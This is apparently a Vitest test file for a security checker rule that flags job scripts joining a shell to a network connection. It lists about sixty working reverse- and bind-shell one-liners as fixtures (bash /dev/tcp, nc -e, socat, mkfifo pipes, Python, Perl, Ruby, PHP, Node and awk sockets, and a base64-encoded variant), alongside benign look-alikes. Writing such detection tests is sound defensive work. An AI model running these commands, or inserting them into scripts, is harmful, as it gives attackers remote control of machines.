import { describe, expect, it } from 'vitest';
import { check, job, summary } from '../../support/check.ts';

/** This rule's findings, and JV107's: a listener that hands out a shell must not be reported twice. */
function found(script: string): string[] {
  return summary(check(job(script))).filter((line) => /^JV(?:701|107) /.test(line));
}

const H = '203.0.113.5';

describe('a shell joined to a connection', () => {
  it.each<[name: string, script: string, line: number]>([
    ['bash redirected both ways', `bash -i >& /dev/tcp/${H}/4444 0>&1`, 3],
    ['with a variable for the host', 'sh -i &> /dev/udp/$HOST/$PORT <&1', 3],
    ['by exec', `exec /bin/sh 0</dev/tcp/${H}/1 1>&0 2>&0`, 3],
    ['a group', `{ bash -i; } >/dev/tcp/${H}/1 <&1 2>&1`, 3],
    ['a loop', `while :; do bash -i; done <>/dev/tcp/${H}/1 >&0`, 3],
    ['a subshell', `(sh)0>/dev/tcp/${H}/9001`, 3],
    ['a function', `f() { bash -i; }\nf >& /dev/tcp/${H}/1 0>&1`, 3],
    ['an opened descriptor', `0<&196;exec 196<>/dev/tcp/${H}/1; sh <&196 >&196 2>&196`, 3],
    ['a named descriptor', `exec {fd}<>/dev/tcp/${H}/1\nbash <&"$fd" >&"$fd" 2>&1`, 4],
    ['lines that run', `exec 5<>/dev/tcp/${H}/1\ncat <&5 | while read line; do $line 2>&5 >&5; done`, 4],
    ['lines for eval', `exec 5<>/dev/tcp/${H}/1\nwhile read -r line <&5; do eval "$line" >&5 2>&1; done`, 4],
    ['read -u', `while read -u 5 -r l; do bash -c "$l"; done 5<>/dev/tcp/${H}/1`, 3],
    ['the outer shell is redirected', `sh -c "bash -i" >& /dev/tcp/${H}/1 0>&1`, 3],
    ['behind wrappers', `nohup setsid timeout 60 bash -i >& /dev/tcp/${H}/1 0>&1 &`, 3],
    ['in bash -c', `srun bash -c 'bash -i >& /dev/tcp/${H}/1 0>&1'`, 3],
    ['in a container', `apptainer exec a.sif bash -c 'exec 3<>/dev/tcp/${H}/80; sh <&3 >&3'`, 3],
    ['on another node', `ssh nid01 'bash -i >& /dev/tcp/${H}/1 0>&1'`, 3],
    ['in a trap', `trap 'bash -i >& /dev/tcp/${H}/1 0>&1' EXIT`, 3],
    ['in a here-document', `bash <<EOF\nbash -i >& /dev/tcp/${H}/1 0>&1\nEOF`, 4],
    ['in a script that is written and run', `cat > x.sh <<'EOF'\nsh -i >& /dev/tcp/${H}/1 0>&1\nEOF\nbash x.sh`, 4],
    ['encoded', `bash -c "$(echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xLzEgMD4mMQ== | base64 -d)"`, 3],
    ['an interpreter', `python3 < /dev/tcp/${H}/1`, 3],
    ['a named pipe', `mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc ${H} 4444 >/tmp/f`, 3],
    ['a named pipe in a variable', `mkfifo "$FIFO"; sh -i <"$FIFO" 2>&1 | nc ${H} 4444 >"$FIFO"`, 3],
    ['a named pipe the other way', `mknod p p && nc ${H} 4444 0<p | /bin/bash 1>p`, 3],
    ['telnet', `TF=$(mktemp -u); mkfifo $TF; telnet ${H} 23 0<$TF | sh 1>$TF`, 3],
    ['TLS', `mkfifo s; sh -i < s 2>&1 | openssl s_client -quiet -connect ${H}:443 > s`, 3],
    ['commands from one connection', `openssl s_client -quiet -connect ${H}:443 | sh`, 3],
    ['through a filter', `nc ${H} 1 | base64 -d | bash`, 3],
    ['a substitution', `sh -c "$(nc ${H} 1)"`, 3],
    ['a substitution kept in a variable', `x=$(nc ${H} 1)\neval "$x"`, 4],
    ['a process substitution', `bash <(nc ${H} 1)`, 3],
    ['read from a process substitution', `read -r c < <(nc ${H} 1); eval "$c"`, 3],
    ['xargs', `nc ${H} 1 | xargs -I{} sh -c {}`, 3],
    ['a coprocess', `coproc nc ${H} 1\nbash <&"\${COPROC[0]}" >&"\${COPROC[1]}"`, 4],
    ['a listener', 'nc -lp 4444 | bash', 3],
    ['nc -e', `nc -e /bin/sh ${H} 4242`, 3],
    ['nc -e at the end', `nc ${H} 4242 -e /bin/bash`, 3],
    ['nc -c', `nc -c bash ${H} 4242`, 3],
    ['nc clustered', 'nc -lvnp 4444 -e /bin/bash', 3],
    ['ncat long options', `ncat --ssl ${H} 443 --sh-exec "bash -i"`, 3],
    ['ncat --exec=', 'ncat --exec=/bin/bash -lk 4444', 3],
    ['busybox', `busybox nc ${H} 4242 -e sh`, 3],
    ['socat', `socat TCP:${H}:4242 EXEC:'bash -li',pty,stderr,setsid`, 3],
    ['socat in lower case, other way round', `socat exec:/bin/sh,pty tcp-connect:$RHOST:$RPORT`, 3],
    ['socat listening', 'socat -d -d TCP-LISTEN:1337,fork SYSTEM:"/bin/sh -i 2>&1"', 3],
    ['socat on loopback', 'socat TCP-LISTEN:1337,bind=127.0.0.1 EXEC:/bin/bash', 3],
    ['perl', `perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"${H}:1");system$_ while<>'`, 3],
    ['perl with clusters', `perl -MSocket -lne 'socket(S,2,1,6);connect(S,$a);exec("/bin/sh")'`, 3],
    ['ruby', `ruby -rsocket -e 'f=TCPSocket.open("${H}",1).to_i;exec sprintf("sh -i <&%d",f)'`, 3],
    ['php', `php -r '$s=fsockopen("${H}",1);exec("sh <&3 >&3");'`, 3],
    ['node', `node -e 'var n=require("net"),p=require("child_process").spawn("sh");n.connect(1,"${H}")'`, 3],
    ['awk', `gawk 'BEGIN{s="/inet/tcp/0/${H}/1";while(1){s|&getline c;while((c|&getline)>0)print|&s}}'`, 3],
    [
      'python with a terminal',
      `python -c 'import pty,socket;s=socket.create_connection(("${H}",1));pty.spawn("sh")'`,
      3,
    ],
    [
      'python with descriptors',
      `python3 -c 'import socket as k,os,subprocess as p;s=k.socket();s.connect(("${H}",1));[os.dup2(s.fileno(),n) for n in (0,1,2)];p.call(["/bin/sh"])'`,
      3,
    ],
    [
      'python that runs what it receives',
      `python3 - <<'PY'\nimport socket, subprocess\ns = socket.socket()\ns.connect(("${H}", 1))\nwhile True:\n    cmd = s.recv(1024).decode()\n    s.send(subprocess.getoutput(cmd).encode())\nPY`,
      3,
    ],
    [
      'python that listens',
      `python -c 'import socket,os;s=socket.socket();s.bind(("",5));s.listen(1);c,a=s.accept();os.dup2(c.fileno(),0);os.system("sh")'`,
      3,
    ],
    ['gsocket', 'gs-netcat -s Secret -l -i', 3],
    ['an own sshd behind a reverse forward', 'sshd -D -p 2200 &\nssh -N -R 0:localhost:2200 relay.example.org', 4],
  ])('%s', (_, script, line) => {
    expect([...new Set(found(script))]).toEqual([`JV701 critical ${line}`]);
  });

  it.each<[name: string, script: string]>([
    ['a listener', 'socat TCP-LISTEN:5000,fork EXEC:./server'],
    ['a client', `nc -e ./agent ${H} 5000`],
  ])('another program than a shell is less severe: %s', (_, script) => {
    expect(found(script)).toEqual(['JV701 high 3']);
  });
});

describe('no shell at the connection', () => {
  it.each<[name: string, script: string]>([
    ['a port test by writing', '(echo > /dev/tcp/$h/$p) >/dev/null 2>&1'],
    ['a port test by opening', 'timeout 1 bash -c "</dev/tcp/$HEAD/6379" && echo up'],
    ['a port test by exec', 'until (exec 3<>/dev/tcp/$head/$port) 2>/dev/null; do sleep 1; done'],
    ['a port test by cat', 'until timeout 1 bash -c "cat < /dev/null > /dev/tcp/$A/$P"; do sleep 1; done'],
    [
      'a request over a descriptor',
      'exec 3<>/dev/tcp/localhost/8000\nprintf \'GET / HTTP/1.0\\r\\n\\r\\n\' >&3\nwhile read -r line <&3; do echo "$line"; done\nexec 3>&-\nbash train.sh',
    ],
    ['a descriptor of a file', 'exec 5<>state.txt\nwhile read -r line <&5; do $line; done'],
    ['nc -z', 'while ! nc -z $HEAD 6379; do sleep 1; done'],
    ['a request by nc', 'echo ruok | nc localhost 2181'],
    ['a client of socat', 'socat - TCP:localhost:9000'],
    ['socat between local ends', "socat UNIX-LISTEN:$TMPDIR/s EXEC:'python repl.py'"],
    ['a forwarder on loopback', "socat TCP-LISTEN:5432,bind=127.0.0.1,fork EXEC:'ssh gw nc db 5432'"],
    ['interactive ssh', 'ssh -t nid0012 htop'],
    ['a terminal without a network', "script -qc 'srun --pty bash' /dev/null"],
    ['a terminal in Python', `python -c 'import pty; pty.spawn("/bin/bash")'`],
    ['a fetched script', 'curl -fsSL https://example.org/install.sh | bash'],
    ['a local script on standard input', 'cat script.sh | bash\nbash < script.sh'],
    ['a named pipe without a network', 'mkfifo p; bash < p & echo date > p'],
    ['a shell that only reports', 'bash run.sh > /dev/tcp/loghost/514'],
    ['printed text', 'echo "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"'],
    ['a document', 'cat > README <<EOF\nbash -i >& /dev/tcp/10.0.0.1/4242 0>&1\nEOF'],
    ['a port test in Python', `python -c "import socket; socket.create_connection(('$HEAD', 1), timeout=2)"`],
    [
      'a port test and a program in Python',
      'python3 - <<EOF\nimport socket, subprocess\nsocket.create_connection(("localhost", 8000), 1).close()\nsubprocess.run(["python", "client.py"])\nEOF',
    ],
    ['a port test in perl', `perl -MIO::Socket::INET -e 'exit(!IO::Socket::INET->new("localhost:5432"))'`],
    ['a request in awk', `gawk 'BEGIN{s="/inet/tcp/0/h/80";print "GET /" |& s;while((s|&getline l)>0)print l}'`],
    ['an own sshd for an editor', 'sshd -D -p 2222 -f $HOME/sshd_config'],
    ['a reverse forward of a notebook', 'sshd -p 2222\nssh -N -R 8888:localhost:8888 login1'],
  ])('%s', (_, script) => {
    expect(found(script)).toEqual([]);
  });
});
